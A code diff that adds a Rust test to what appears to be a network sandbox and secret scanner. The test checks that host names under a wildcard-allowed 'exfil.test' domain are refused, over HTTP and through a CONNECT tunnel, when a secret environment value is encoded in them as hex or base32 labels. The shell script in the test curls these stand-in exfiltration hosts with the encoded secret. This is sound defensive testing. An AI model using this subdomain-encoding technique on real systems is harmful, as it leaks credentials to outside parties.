@@ -446,3 +446,75 @@ curl -k -s -o /dev/null -w "secret %{{http_code}}\n" "https://secure.test:{port}
     assert!(stdout.contains("verify 60\n"), "{stdout}\n{stderr}");
     assert!(stdout.contains("secret 200\n"), "{stdout}\n{stderr}");
 }
+
+/// A wildcard entry lets a program choose labels; data encoded in them is
+/// refused on every way in — over plain HTTP, and inside a `CONNECT` that
+/// is never intercepted — naming the host name, while ordinary names pass.
+#[tokio::test]
+async fn encoded_host_labels_under_a_wildcard_are_refused() {
+    let origin = origin().await;
+    let port = origin.addr.port();
+    let dir = tempfile::tempdir().unwrap();
+    let hex_known: String = KNOWN.bytes().map(|b| format!("{b:02x}")).collect();
+    let base32 = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi2tkmzy";
+    let names = [
+        "logs.exfil.test".to_owned(),
+        "github-production-release-asset-2e65be.exfil.test".to_owned(),
+        format!("{hex_known}.exfil.test"),
+        format!("{base32}.exfil.test"),
+    ];
+    let hosts: Vec<String> = names
+        .iter()
+        .map(|name| format!("\"{name}\" = [\"127.0.0.1\"]"))
+        .collect();
+    let config = dir.path().join("scan.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[network]\nallowed_domains = [\"**.exfil.test\"]\nallow_local_binding = true\n\n[dns]\nhosts = {{ {} }}\n\n[scan]\naction = \"deny\"\nsecret_env = [\"MY_SECRET\"]\n\n[log]\nviolations_file = {:?}\n",
+            hosts.join(", "),
+            dir.path().join("violations.jsonl")
+        ),
+    )
+    .unwrap();
+    let script = format!(
+        r#"for name in {names}; do curl -s -o /dev/null -w "$name %{{http_code}}\n" "http://$name:{port}/"; done
+curl -s -p -o /dev/null "http://{base32}.exfil.test:{port}/"; echo "tunnel $?""#,
+        names = names.join(" ")
+    );
+    let (code, stdout, stderr) = output(
+        portcullis()
+            .env("MY_SECRET", KNOWN)
+            .args(["run", "--config"])
+            .arg(&config)
+            .args(["--", "sh", "-c", &script]),
+    )
+    .await;
+    assert_eq!(code, Some(0), "{stderr}");
+    for (name, wanted) in names.iter().zip(["200", "200", "403", "403"]) {
+        assert!(
+            stdout.contains(&format!("{name} {wanted}\n")),
+            "{name} should be {wanted}:\n{stdout}\n{stderr}"
+        );
+    }
+    // The tunnel is refused before it opens (curl: CONNECT failed).
+    assert!(stdout.contains("tunnel 56"), "{stdout}\n{stderr}");
+    let recorded = std::fs::read_to_string(dir.path().join("violations.jsonl")).unwrap();
+    assert!(
+        recorded.contains("known:MY_SECRET in the host name (hex)"),
+        "{recorded}"
+    );
+    assert!(
+        recorded.contains("encoded_hostname (a label of 48 characters"),
+        "{recorded}"
+    );
+    // The name held the data: records show the fixed domain only.
+    assert!(recorded.contains("{redacted}.exfil.test"), "{recorded}");
+    // (stdout is the script's own echo of the names.)
+    for text in [&recorded, &stderr] {
+        assert!(
+            !text.contains(&hex_known) && !text.contains(base32),
+            "{text}"
+        );
+    }
+}
